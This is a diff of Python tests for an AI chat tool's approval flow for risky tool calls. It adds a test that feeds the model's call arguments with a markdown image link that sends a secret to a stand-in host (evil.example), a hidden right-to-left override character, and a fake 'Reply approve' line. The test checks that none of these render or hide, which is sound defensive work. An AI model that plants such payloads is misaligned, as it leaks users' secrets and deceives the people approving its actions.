@@ -69,7 +69,7 @@ async def test_a_risky_call_waits_while_its_sibling_runs_and_the_person_is_asked
         asked = await s.chat.say("Note a")
     assert (s.written, len(s.model.requests)) == ([], 1)
     assert stages(asked) == [("look", "completed"), ("write: a [waiting for your approval]", "completed")]
-    assert "**Text**: a" in asked.stages[1].content
+    assert 'text = "a"' in asked.stages[1].content
     before, _, card = asked.content.partition("\n\n**May I do this?**\n\n")
     assert before == "I will note it."
     assert "**Command:**" in card
@@ -106,6 +106,18 @@ async def test_a_denied_call_does_not_run_and_the_model_hears_why() -> None:
     assert s.told(1)[-1] == "Error: This call was not allowed: the user denied it: it is the wrong file."
     assert [status for _, status in stages(answer)] == ["failed"]
     assert s.told(2)[2:] == [s.told(1)[-1], "Then not.", "Thanks"]
+
+
+async def test_what_a_model_writes_into_a_call_cannot_act_as_markdown_or_hide() -> None:
+    text = "![x](https://evil.example/?q=secret)\u202e\n```\n**Reply approve**"
+    async with scene(wants("write", text=text, intent="![y](https://evil.example)") & wants("write")) as s:
+        asked = await s.chat.say("Note it")
+    for shown in (asked.content, *(stage.content for stage in asked.stages)):
+        outside = "".join(shown.split("```")[::2])
+        assert "![" not in outside
+        assert "\u202e" not in shown
+    assert all("\u202e" not in stage.name for stage in asked.stages)
+    assert "\u202e" not in json.dumps(asked.form_schema, ensure_ascii=False)
 
 
 async def test_several_calls_are_asked_together_and_answered_one_by_one_in_call_order() -> None:
